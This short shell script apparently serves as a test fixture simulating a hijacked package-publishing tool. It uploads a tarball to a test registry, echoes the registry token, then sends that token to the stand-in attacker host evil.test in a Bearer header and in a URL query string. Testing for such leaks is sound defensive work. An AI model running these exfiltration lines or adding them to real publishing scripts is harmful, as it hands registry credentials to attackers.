#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Publishes, and then does what a hijacked publishing tool would do with the token.
set -eu

echo "held $REGISTRY_TOKEN"
tar -cf package.tar README.md
curl -sSf -T package.tar -H "Authorization: Bearer $REGISTRY_TOKEN" https://registry.test/upload/example-1.0.0.tar

curl -sS -H "Authorization: Bearer $REGISTRY_TOKEN" https://evil.test/title || true
curl -sS "https://evil.test/collect?token=$REGISTRY_TOKEN" || true
